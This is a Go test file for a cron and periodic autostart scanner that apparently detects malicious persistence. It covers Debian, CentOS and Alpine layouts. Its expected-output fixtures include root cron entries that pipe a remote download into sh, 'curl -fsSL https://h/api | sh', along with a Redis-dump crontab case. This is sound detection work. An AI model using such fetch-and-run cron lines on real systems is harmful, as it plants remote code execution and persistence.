package observe

import (
	"fmt"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
)

// entries is one line for each autostart, sorted.
func entries(s *fact.Snapshot) []string {
	var out []string
	for _, a := range s.Autostart {
		state := "active"
		if !a.Active {
			state = a.Dormant
		}
		out = append(out, fmt.Sprintf("%s %s:%d %s %q %s: %s", a.Kind, a.Origin.Path, a.Origin.Line, a.User, a.Schedule, state, a.Command))
	}
	slices.Sort(out)
	return out
}

func TestCronDebian(t *testing.T) {
	s, c := lookAt(t, "cron-debian", initAnd(fact.Process{PID: 9, Comm: "cron", Exe: "/usr/sbin/cron"}), cron)
	want := []string{
		`cron /etc/cron.d/broken:2 root "1 * * * *" bad-line: b`,
		`cron /etc/cron.d/nobody-there:1 zzh "* * * * *" bad-line: /tmp/zzh`,
		`cron /etc/cron.d/sysstat:1 root "5-55/10 * * * *" active: command -v debian-sa1 > /dev/null && debian-sa1 1 1`,
		`cron /etc/cron.d/writable:1 root "* * * * *" bad-mode: /opt/w`,
		`cron /etc/cron.d/x.sh:1 root "* * * * *" bad-name: /tmp/x`,
		`cron /etc/crontab:2 root "17 * * * *" active: cd / && run-parts --report /etc/cron.hourly`,
		`cron /etc/crontab:3 root "25 6 * * *" active: test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }`,
		`cron /var/spool/cron/crontabs/root:2 root "*/5 19-23,0-7 * * *" active: curl -fsSL https://h/api | sh`,
		`cron /var/spool/cron/crontabs/www-data:1 www-data "@reboot" bad-mode: /var/www/x`,
		`cron /var/spool/cron/root:1 root "*/5 * * * *" not-read: /tmp/y`,
		`periodic /etc/cron.daily/dpkg:0 root "@daily" active: `,
		`periodic /etc/cron.daily/off:0 root "@daily" not-executable: `,
		`periodic /etc/cron.hourly/gcc.sh:0 root "@hourly" bad-name: `,
		`periodic /etc/cron.weekly/never:0 root "@weekly" not-read: `,
	}
	if d := cmp.Diff(want, entries(s)); d != "" {
		t.Error(d)
	}
	wantGaps := []string{"too-large /var/spool/cron/crontabs/big", "not-regular /var/spool/cron/crontabs/pipe"}
	if d := cmp.Diff(wantGaps, gaps(c)); d != "" || c.State != fact.Partial {
		t.Error(c.State, d)
	}
	for _, a := range s.Autostart {
		if a.Origin.Path == "/etc/cron.d/broken" && a.DormantAt != (fact.Origin{Path: a.Origin.Path, Line: 1}) {
			t.Errorf("dormant at %v", a.DormantAt)
		}
		if a.Origin.Path == "/var/spool/cron/crontabs/root" && !a.Shell.FetchExec {
			t.Error("the fetch is not seen")
		}
	}
}

func TestCronCentOS7(t *testing.T) {
	s, c := lookAt(t, "cron-centos7", initAnd(fact.Process{PID: 9, Comm: "crond", Exe: "/usr/sbin/crond"}), cron)
	want := []string{
		`cron /etc/anacrontab:4 root "1" active: nice run-parts /etc/cron.daily`,
		`cron /etc/anacrontab:5 root "@monthly" active: nice run-parts /etc/cron.monthly`,
		`cron /etc/cron.d/.hidden:1 root "* * * * *" bad-name: /tmp/hidden`,
		`cron /etc/cron.d/0hourly:1 root "01 * * * *" active: run-parts /etc/cron.hourly`,
		`cron /etc/cron.d/old.rpmsave:1 root "* * * * *" bad-name: /tmp/old`,
		`cron /etc/cron.d/x.sh:1 root "* * * * *" active: /tmp/x`,
		`cron /var/spool/cron/crontabs/root:1 root "* * * * *" not-read: /tmp/both`,
		`cron /var/spool/cron/gone:1 gone "* * * * *" no-account: /tmp/gone`,
		`cron /var/spool/cron/root:4 root "*/5 19-23,0-7 * * *" active: curl -fsSL https://h/api/report?pm=k | sh`,
		`cron /var/spool/cron/shop:1 shop "0 3 * * *" active: /home/shop/bin/backup`,
		`periodic /etc/cron.daily/logrotate:0 root "@daily" active: `,
		`periodic /etc/cron.hourly/gcc.sh:0 root "@hourly" active: `,
	}
	if d := cmp.Diff(want, entries(s)); d != "" {
		t.Error(d)
	}
	if c.State != fact.Seen {
		t.Error(c)
	}
	for _, a := range s.Autostart {
		if (a.RDB != nil) != (a.Origin.Path == "/var/spool/cron/root") {
			t.Errorf("%s: dump %v", a.Origin.Path, a.RDB)
		}
		if a.RDB != nil && (a.RDB.Redis != "5.0.14" || a.RDB.Key != "x" || a.RDB.Saved.IsZero() || a.RDB.Version != 9) {
			t.Errorf("mark %+v", *a.RDB)
		}
	}
}

func TestCronAlpine(t *testing.T) {
	s, _ := lookAt(t, "cron-alpine", initAnd(fact.Process{
		PID: 9, Comm: "crond", Exe: "/bin/busybox", Argv: []string{"/usr/sbin/crond", "-c", "/etc/crontabs", "-f"},
	}), cron)
	want := []string{
		`cron /etc/crontab:1 root "* * * * *" not-read: /tmp/not-read`,
		`cron /etc/crontabs/root:2 root "*/15 * * * *" active: run-parts /etc/periodic/15min`,
		`cron /etc/crontabs/root:3 root "0 * * * *" active: run-parts /etc/periodic/hourly`,
		`periodic /etc/periodic/15min/bad.sh:0 root "@15min" bad-name: `,
		`periodic /etc/periodic/15min/kdev:0 root "@15min" active: `,
		`periodic /etc/periodic/daily/off:0 root "@daily" not-read: `,
	}
	if d := cmp.Diff(want, entries(s)); d != "" {
		t.Error(d)
	}
}

// The daemon decides, not the layout: what busybox reads with -c is read.
func TestCronOfBusyboxInOtherLayout(t *testing.T) {
	s, _ := lookAt(t, "cron-centos7", initAnd(fact.Process{
		PID: 9, Comm: "crond", Exe: "/usr/bin/busybox", Argv: []string{"/usr/sbin/crond", "-f", "-c", "/var/spool/cron"},
	}), cron)
	got := map[fact.Path]string{}
	for _, a := range s.Autostart {
		got[a.Origin.Path] = a.Dialect + " " + a.Dormant
	}
	for f, want := range map[fact.Path]string{
		"/var/spool/cron/root": "busybox ", "/var/spool/cron/shop": "busybox bad-owner", "/etc/cron.d/x.sh": "debian not-read",
		"/var/spool/cron/crontabs/root": "debian not-read",
	} {
		if got[f] != want {
			t.Errorf("%s: %q, want %q", f, got[f], want)
		}
	}
}

func TestCronWithoutDaemon(t *testing.T) {
	for _, known := range []bool{false, true} {
		base, want := fact.Snapshot{}, ""
		if known {
			base, want = initAnd(), "no-daemon"
		}
		s, _ := lookAt(t, "cron-debian", base, cron)
		for _, a := range s.Autostart {
			if a.Origin.Path == "/var/spool/cron/crontabs/root" && (a.Dormant != want || a.Dialect != "debian") {
				t.Errorf("known %v: %s %q, want %q", known, a.Dialect, a.Dormant, want)
			}
		}
	}
}
